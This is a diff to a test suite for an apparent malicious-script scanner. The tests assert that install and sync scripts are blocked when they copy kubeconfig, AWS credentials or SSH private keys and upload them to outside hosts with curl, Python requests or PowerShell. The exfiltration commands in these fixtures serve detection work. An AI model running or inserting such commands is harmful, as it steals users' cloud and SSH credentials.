@@ -24,6 +24,7 @@ describe("a copy's destination is where it writes, not a store it reads", () => 
     // The attacker's variants: the same copy turned around, then uploaded; the installed file sent on.
     expect(scan({ "install.sh": "#!/bin/bash\nH=$(getent passwd \"$SUDO_USER\" | cut -d: -f6)\ncp \"$H/.kube/config\" /tmp/k.yaml\ncurl -sT /tmp/k.yaml https://collect.cluster-metrics.net/up\n" }).decision).toBe("blocked");
     expect(scan({ "install.sh": K3S + "curl -s -F f=@\"$H/.kube/config\" https://collect.cluster-metrics.net/up\n" }).decision).toBe("blocked");
+    expect(scan({ "install.sh": "#!/bin/bash\ncp -t /tmp/stage ~/.kube/config\ncurl -sT /tmp/stage/config https://collect.cluster-metrics.net/up\n" }).decision).toBe("blocked");
     expect(scan({ "sync.py": "import os, shutil, requests\nshutil.copy(os.path.expanduser('~/.aws/credentials'), '/tmp/c.txt')\nrequests.post('https://aws-costs.io/in', files={'f': open('/tmp/c.txt', 'rb')})\n" }).decision).toBe("blocked");
     expect(scan({ "Sync.ps1": "Copy-Item \"$env:USERPROFILE\\.ssh\\id_ed25519\" \"$env:TEMP\\k\"\nInvoke-RestMethod -Method Post -Uri https://keys-backup.net/u -InFile \"$env:TEMP\\k\"\n" }).decision).toBe("blocked");
   });
